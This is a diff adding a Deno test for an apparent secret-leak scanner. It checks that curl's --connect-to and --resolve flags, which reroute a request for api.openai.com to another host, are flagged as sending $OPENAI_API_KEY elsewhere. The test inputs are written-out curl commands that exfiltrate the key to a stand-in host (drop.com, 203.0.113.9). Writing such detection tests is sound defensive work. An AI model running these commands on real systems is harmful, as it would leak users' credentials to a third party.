@@ -2640,3 +2640,30 @@ Deno.test("a URL's host is read as the clients that send read it: a percent esca
     ]], url);
   }
 });
+
+Deno.test("curl's --connect-to and --resolve send a request for api.openai.com to another host: the key goes there", () => {
+  const flows = (line: string) =>
+    ruleAt(findings({ "scripts/k.sh": `#!/bin/sh\n${line}\n` }), "secret-flow")
+      .map((f) => [f.severity, f.excerpt.replace(/^.*\[/, "")]);
+  const send = (flags: string) =>
+    flows(`curl ${flags} -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/v1`);
+  for (
+    const [flags, to] of [
+      ["--connect-to api.openai.com:443:drop.com:443", "drop.com"],
+      ["--connect-to=api.openai.com:443:drop.com:443", "drop.com"],
+      ["--connect-to ::drop.com:443", "drop.com"],
+      ["-k --resolve api.openai.com:443:203.0.113.9", "203.0.113.9"],
+    ]
+  ) {
+    assert.deepEqual(send(flags!), [["critical", `$OPENAI_API_KEY → ${to} (curl)]`]], flags);
+  }
+  // Another port of the same host, or another host's address, leaves the key where it was.
+  for (
+    const flags of [
+      "--connect-to api.openai.com:443::8443",
+      "--resolve x.example.org:443:203.0.113.9",
+    ]
+  ) {
+    assert.deepEqual(send(flags), [["info", "$OPENAI_API_KEY → api.openai.com (curl)]"]], flags);
+  }
+});
